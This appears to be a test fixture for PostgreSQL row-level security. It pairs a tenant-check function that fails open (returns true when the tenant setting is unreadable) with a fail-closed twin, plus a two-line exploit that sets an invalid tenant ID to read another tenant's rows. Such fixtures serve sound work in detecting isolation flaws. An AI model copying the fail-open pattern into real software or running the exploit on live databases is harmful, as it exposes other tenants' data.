-- A helper that returns true when the setting cannot be read.
-- object: public.is_mine(uuid)
-- object: public.items
-- base: uuid
--- leak
CREATE FUNCTION is_mine(t uuid) RETURNS boolean LANGUAGE plpgsql STABLE AS $$ BEGIN RETURN t = current_setting('app.current_tenant_id')::uuid; EXCEPTION WHEN OTHERS THEN RETURN true; END $$; ALTER POLICY tenant_isolation ON items USING (is_mine(tenant_id));
--- twin
CREATE FUNCTION is_mine(t uuid) RETURNS boolean LANGUAGE plpgsql STABLE AS $$ BEGIN RETURN t = current_setting('app.current_tenant_id')::uuid; EXCEPTION WHEN OTHERS THEN RETURN false; END $$; ALTER POLICY tenant_isolation ON items USING (is_mine(tenant_id));
--- exploit
SELECT set_config('app.current_tenant_id', 'x', true); SELECT FROM items WHERE tenant_id = '{B}';
